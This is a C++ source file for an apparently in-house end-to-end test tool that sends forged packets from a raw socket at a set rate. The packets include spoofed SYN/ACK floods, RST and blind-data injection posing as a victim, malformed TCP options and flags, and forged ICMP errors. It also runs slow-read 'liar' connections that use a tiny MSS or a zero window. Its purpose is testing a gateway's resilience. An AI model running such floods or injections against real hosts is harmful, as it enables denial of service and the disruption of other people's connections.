// attack: forged packets for the end-to-end tests, from a raw socket, at a given rate.
//
// The first word says what is forged; kKinds below is the list. Where strangers speak, their addresses lie in
// 10.80.0.0/12, which the gateway reaches by way of the namespace that this program runs in. Where an honest connection is
// meant, --victim and --victim-ports name its far end. The liars (tiny-mss, drip, closed) complete handshakes and ask for
// a large answer, each segment of theirs following from the one that it answers, so that no state is kept.
//
// One thread; bursts by sendmmsg, paced by the clock. At the end one line of JSON: segments sent, heard, bytes heard.

#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>

#include <CLI/CLI.hpp>
#include <cstdio>
#include <cstring>
#include <functional>
#include <map>
#include <random>
#include <string>
#include <vector>

#include "src/wire/checksum.h"
#include "src/wire/eth.h"
#include "src/wire/icmp.h"
#include "src/wire/ip4.h"
#include "src/wire/tcp.h"

namespace {

using namespace ringway;
using wire::Ip4;
using wire::SeqNo;

constexpr std::size_t kBurst = 64;
constexpr std::size_t kFrameBytesMax = 1514;
constexpr Ip4 kStrangers = Ip4::of(10, 80, 0, 0);
constexpr u32 kStrangersMask = 0x000f'ffff;
constexpr u16 kStrangerPort = 1024, kStrangerPorts = 60'000, kLiarPort = 62'000, kLiarPorts = 3000;
constexpr u8 kFin = 1, kSyn = 2, kRst = 4, kPsh = 8, kAck = 16, kUrg = 32;

u64 now_us() {
  timespec t{};
  clock_gettime(CLOCK_MONOTONIC, &t);
  return static_cast<u64>(t.tv_sec) * 1'000'000 + static_cast<u64>(t.tv_nsec) / 1000;
}

[[noreturn]] void fail(const std::string& what) {
  std::fprintf(stderr, "attack: %s: %s\n", what.c_str(), std::strerror(errno));
  std::exit(1);
}

Ip4 parse_ip(const std::string& text) {
  unsigned a = 0, b = 0, c = 0, d = 0;
  if (std::sscanf(text.c_str(), "%u.%u.%u.%u", &a, &b, &c, &d) != 4) fail("no address: " + text);
  return Ip4{a << 24 | b << 16 | c << 8 | d};
}

wire::Mac parse_mac(const std::string& text) {
  wire::Mac m;
  unsigned b[6];
  if (std::sscanf(text.c_str(), "%x:%x:%x:%x:%x:%x", b, b + 1, b + 2, b + 3, b + 4, b + 5) != 6) fail("no MAC: " + text);
  for (std::size_t i = 0; i < 6; ++i) m.b[i] = static_cast<u8>(b[i]);
  return m;
}

// Frames to the gateway, and what it sends to strangers.
class Line {
 public:
  Line(const std::string& interface, const wire::Mac& gateway) : gateway_(gateway) {
    fd_ = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    if (fd_ < 0) fail("no packet socket");
    ifreq about{};
    std::snprintf(about.ifr_name, sizeof about.ifr_name, "%s", interface.c_str());
    if (ioctl(fd_, SIOCGIFHWADDR, &about) != 0) fail("no MAC of " + interface);
    std::memcpy(own_.b.data(), about.ifr_hwaddr.sa_data, 6);
    const int yes = 1, room = 16 << 20;
    setsockopt(fd_, SOL_PACKET, PACKET_IGNORE_OUTGOING, &yes, sizeof yes);
    setsockopt(fd_, SOL_SOCKET, SO_RCVBUFFORCE, &room, sizeof room);
    sockaddr_ll at{};
    at.sll_family = AF_PACKET;
    at.sll_protocol = htons(ETH_P_IP);
    at.sll_ifindex = static_cast<int>(if_nametoindex(interface.c_str()));
    if (bind(fd_, reinterpret_cast<sockaddr*>(&at), sizeof at) != 0) fail("bind to " + interface);
    for (std::size_t i = 0; i < kBurst; ++i) {
      parts_[i].iov_base = frames_[i].data();
      messages_[i].msg_hdr.msg_iov = &parts_[i];
      messages_[i].msg_hdr.msg_iovlen = 1;
    }
  }

  u64 sent = 0;

  struct Tcp {
    Ip4 from, to;
    u16 from_port = 0, to_port = 0;
    SeqNo seq, ack;
    u8 flags = 0;
    u16 window = 8192;
    std::string options, payload;
  };
  void tcp(const Tcp& s) {
    const std::size_t header = wire::kTcpHeaderBytes + s.options.size(), bytes = header + s.payload.size();
    u8* at = packet(s.from, s.to, wire::kIpProtoTcp, bytes);
    wire::write_tcp(at, {.source_port = s.from_port, .destination_port = s.to_port, .seq = s.seq, .ack = s.ack,
                         .header_bytes = static_cast<u8>(header), .flags = s.flags, .window = s.window});
    std::memcpy(at + wire::kTcpHeaderBytes, s.options.data(), s.options.size());
    std::memcpy(at + header, s.payload.data(), s.payload.size());
    wire::Checksum sum(wire::pseudo_header_sum(s.from, s.to, wire::kIpProtoTcp, static_cast<u16>(bytes)));
    sum.add({at, bytes});
    const wire::Be16 value = sum.value();
    std::memcpy(at + wire::kTcpChecksumOffset, &value.raw, 2);
    push(wire::kIp4HeaderBytes + bytes);
  }
  // An error about `quoted` bytes of a packet.
  void icmp(Ip4 from, Ip4 to, u8 type, u8 code, u32 rest, const std::vector<u8>& quoted) {
    const std::size_t bytes = wire::kIcmpHeaderBytes + quoted.size();
    u8* at = packet(from, to, wire::kIpProtoIcmp, bytes);
    wire::write_icmp(at, static_cast<wire::IcmpType>(type), code, rest);
    std::memcpy(at + wire::kIcmpHeaderBytes, quoted.data(), quoted.size());
    const wire::Be16 value = wire::checksum({at, bytes});
    std::memcpy(at + 2, &value.raw, 2);
    push(wire::kIp4HeaderBytes + bytes);
  }

  void flush() {
    for (std::size_t done = 0; done < count_;) {
      const int n = sendmmsg(fd_, messages_.data() + done, static_cast<unsigned>(count_ - done), 0);
      if (n <= 0) break;
      done += static_cast<std::size_t>(n);
      sent += static_cast<u64>(n);
    }
    count_ = 0;
  }

  // Calls `on(ip, tcp)` for every segment to a stranger that has arrived within `wait_us`.
  void hear(u64 wait_us, const std::function<void(wire::Ip4View, wire::TcpView)>& on) {
    pollfd ready{fd_, POLLIN, 0};
    const timespec wait{0, static_cast<long>(wait_us) * 1000};
    if (ppoll(&ready, 1, &wait, nullptr) <= 0) return;
    u8 frame[kFrameBytesMax + 64];
    for (int n = 0; n < 256; ++n) {
      const ssize_t got = recv(fd_, frame, sizeof frame, MSG_DONTWAIT);
      if (got < 54) {
        if (got < 0) return;
        continue;
      }
      const wire::Ip4View ip(frame + wire::kEthHeaderBytes);
      if (ip.protocol() != wire::kIpProtoTcp || (ip.destination().v & ~kStrangersMask) != kStrangers.v) continue;
      on(ip, wire::TcpView(frame + wire::kEthHeaderBytes + ip.header_bytes()));
    }
  }

 private:
  u8* packet(Ip4 from, Ip4 to, u8 protocol, std::size_t bytes) {
    if (count_ == kBurst) flush();
    u8* frame = frames_[count_].data();
    wire::write_eth(frame, gateway_, own_, wire::kEtherTypeIp4);
    wire::write_ip4(frame + wire::kEthHeaderBytes, {.total_bytes = static_cast<u16>(wire::kIp4HeaderBytes + bytes),
                                                    .protocol = protocol, .source = from, .destination = to});
    return frame + wire::kEthHeaderBytes + wire::kIp4HeaderBytes;
  }
  void push(std::size_t ip_bytes) { parts_[count_++].iov_len = wire::kEthHeaderBytes + ip_bytes; }

  int fd_ = -1;
  wire::Mac gateway_, own_;
  std::size_t count_ = 0;
  std::array<std::array<u8, kFrameBytesMax>, kBurst> frames_;
  std::array<iovec, kBurst> parts_{};
  std::array<mmsghdr, kBurst> messages_{};
};

struct Plan {
  Ip4 to, victim;
  u16 port = 80;
  std::vector<u16> victim_ports{0};
  u64 rate = 50'000, count = ~u64{0};
  double seconds = 3;
  std::string target = "/bytes/1048576";
};

class Attacker {
 public:
  Attacker(const Plan& plan, Line& line) : plan_(plan), line_(line) {}

  // One forged packet, the i-th.
  using Blow = void (Attacker::*)(u64 i);

  void syn(u64 i) { line_.tcp(stranger(i, {.flags = kSyn, .options = mss(1460)})); }
  void ack(u64 i) { line_.tcp(stranger(i, {.ack = any(), .flags = kAck, .payload = i % 2 ? "x" : ""})); }
  void syn_ack(u64 i) { line_.tcp(stranger(i, {.ack = any(), .flags = kSyn | kAck})); }
  void rst(u64 i) { line_.tcp(as_victim(i, {.flags = kRst})); }
  void blind_syn(u64 i) { line_.tcp(as_victim(i, {.flags = kSyn})); }
  void blind_data(u64 i) { line_.tcp(as_victim(i, {.ack = any(), .flags = kAck | kPsh, .payload = "evil"})); }
  void options(u64 i) {
    static const std::string kOdd[] = {std::string("\x02\x00\x05\xb4", 4), std::string("\x02\x01\x05\xb4", 4),
                                       std::string("\x02\x28\x05\xb4", 4), std::string("\x08\x0a\x00\x00", 4),
                                       std::string("\x01\x01\x01\x03", 4)};
    line_.tcp(stranger(i, {.flags = kSyn, .options = kOdd[i % std::size(kOdd)]}));
  }
  void flags(u64 i) {
    static const u8 kOdd[] = {kSyn | kFin, kSyn | kRst, kSyn | kFin | kRst | kAck | kUrg, kFin, 0};
    line_.tcp(i % 2 ? stranger(i, {.flags = kOdd[i % std::size(kOdd)]}) : as_victim(i, {.flags = kOdd[i % std::size(kOdd)]}));
  }
  // Errors about segments that the gateway is said to have sent to the victim: unreachable in every way, a path of 68
  // bytes, quench, redirect, too long on the way.
  void icmp(u64 i) {
    static const struct { u8 type, code; u32 rest; } kLies[] = {
        {3, 0, 0}, {3, 1, 0}, {3, 2, 0}, {3, 3, 0}, {3, 4, 68}, {3, 4, 576}, {3, 13, 0}, {4, 0, 0}, {5, 1, 0x0a4d0042}, {11, 0, 0}};
    const auto& lie = kLies[i % std::size(kLies)];
    std::vector<u8> quoted(wire::kIp4HeaderBytes + 8);
    wire::write_ip4(quoted.data(), {.total_bytes = 1500, .protocol = wire::kIpProtoTcp, .source = plan_.to, .destination = plan_.victim});
    u8* tcp = quoted.data() + wire::kIp4HeaderBytes;
    wire::store_be16(tcp, plan_.port);
    wire::store_be16(tcp + 2, victim_port(i));
    wire::store_be32(tcp + 4, any().v);
    line_.icmp(strange_ip(i), plan_.to, lie.type, lie.code, lie.rest, quoted);
  }

  // The liars. The SYN; then an answer to each segment that comes.
  void liar(u64 i) {
    Line::Tcp s = stranger(i, {.flags = kSyn, .options = mss(liar_mss)});
    s.from_port = static_cast<u16>(kLiarPort + i % kLiarPorts);
    line_.tcp(s);
  }
  void answer(wire::Ip4View ip, wire::TcpView t) {
    if (t.destination_port() < kLiarPort) return;  // to a stranger of an earlier attack
    const u32 bytes = ip.total_bytes() - ip.header_bytes() - t.header_bytes();
    ++heard;
    heard_bytes += bytes;
    largest = std::max(largest, bytes);
    if ((t.flags() & kRst) != 0) {
      ++reset;
      return;
    }
    Line::Tcp s{.from = ip.destination(), .to = plan_.to, .from_port = t.destination_port(), .to_port = plan_.port,
                .seq = t.ack(), .ack = t.seq() + bytes, .flags = kAck, .window = liar_window};
    if ((t.flags() & kSyn) != 0) {
      ++connected;
      s.ack += 1;
      s.flags = kAck | kPsh;
      s.payload = "GET " + plan_.target + " HTTP/1.1\r\nHost: odd\r\n\r\n";
    } else if (bytes == 0) {
      return;  // a bare acknowledgement
    } else if (liar_window == 0) {
      s.ack = t.seq();  // a probe: still no room
    }
    line_.tcp(s);
  }

  u16 liar_mss = 1460, liar_window = 8192;
  u64 heard = 0, heard_bytes = 0, connected = 0, reset = 0;
  u32 largest = 0;

 private:
  static std::string mss(u16 v) { return {'\x02', '\x04', static_cast<char>(v >> 8), static_cast<char>(v & 255)}; }
  SeqNo any() { return SeqNo{static_cast<u32>(random_())}; }
  static Ip4 strange_ip(u64 i) { return Ip4{kStrangers.v | (static_cast<u32>(i * 40'503 + 7) & kStrangersMask)}; }
  u16 victim_port(u64 i) const { return plan_.victim_ports[i % plan_.victim_ports.size()]; }
  Line::Tcp stranger(u64 i, Line::Tcp s) {
    s.from = strange_ip(i);
    s.from_port = static_cast<u16>(kStrangerPort + i % kStrangerPorts);
    s.to = plan_.to;
    s.to_port = plan_.port;
    return s;
  }
  Line::Tcp as_victim(u64 i, Line::Tcp s) {
    s = stranger(i, s);
    s.from = plan_.victim;
    s.from_port = victim_port(i);
    s.seq = any();
    return s;
  }

  Plan plan_;
  Line& line_;
  std::mt19937_64 random_{1};
};

struct Kind {
  Attacker::Blow blow;
  bool liar = false;
  u16 mss = 1460, window = 8192;
};

const std::map<std::string, Kind> kKinds = {
    {"syn", {&Attacker::syn}},
    {"ack", {&Attacker::ack}},
    {"syn-ack", {&Attacker::syn_ack}},
    {"rst", {&Attacker::rst}},
    {"blind-syn", {&Attacker::blind_syn}},
    {"blind-data", {&Attacker::blind_data}},
    {"options", {&Attacker::options}},
    {"flags", {&Attacker::flags}},
    {"icmp", {&Attacker::icmp}},
    {"tiny-mss", {&Attacker::liar, true, 1, 8192}},
    {"drip", {&Attacker::liar, true, 1460, 1}},
    {"closed", {&Attacker::liar, true, 1460, 0}},
};

}  // namespace

int main(int argc, char** argv) {
  CLI::App app("Forged packets at a rate");
  std::string kind, interface = "eth0", to, mac, victim = "0.0.0.0";
  Plan plan;
  std::vector<std::string> names;
  for (const auto& [name, _] : kKinds) names.push_back(name);
  app.add_option("kind", kind)->required()->check(CLI::IsMember(names));
  app.add_option("--interface", interface)->capture_default_str();
  app.add_option("--to", to, "Service address")->required();
  app.add_option("--port", plan.port)->required();
  app.add_option("--mac", mac, "Of the gateway")->required();
  app.add_option("--victim", victim, "Honest client's address");
  app.add_option("--victim-ports", plan.victim_ports, "Its ports")->delimiter(',');
  app.add_option("--rate", plan.rate, "Packets per second")->capture_default_str();
  app.add_option("--count", plan.count, "Packets, for liars connections, at most");
  app.add_option("--seconds", plan.seconds)->capture_default_str();
  app.add_option("--target", plan.target, "What liars ask for")->capture_default_str();
  CLI11_PARSE(app, argc, argv);
  plan.to = parse_ip(to);
  plan.victim = parse_ip(victim);

  Line line(interface, parse_mac(mac));
  Attacker attacker(plan, line);
  const Kind& how = kKinds.at(kind);
  attacker.liar_mss = how.mss;
  attacker.liar_window = how.window;
  const u64 begin = now_us(), end = begin + static_cast<u64>(plan.seconds * 1e6);
  for (u64 i = 0, now = begin; now < end; now = now_us()) {
    const u64 wanted = std::min(plan.count, (now - begin) * plan.rate / 1'000'000);
    for (; i < wanted; ++i) (attacker.*how.blow)(i);
    line.flush();
    line.hear(500, [&](wire::Ip4View ip, wire::TcpView t) {
      if (how.liar) attacker.answer(ip, t);
    });
    line.flush();
  }
  std::printf("{\"sent\": %llu, \"heard\": %llu, \"heard_bytes\": %llu, \"largest\": %u, \"connected\": %llu, \"reset\": %llu}\n",
              static_cast<unsigned long long>(line.sent), static_cast<unsigned long long>(attacker.heard),
              static_cast<unsigned long long>(attacker.heard_bytes), attacker.largest,
              static_cast<unsigned long long>(attacker.connected), static_cast<unsigned long long>(attacker.reset));
  return 0;
}
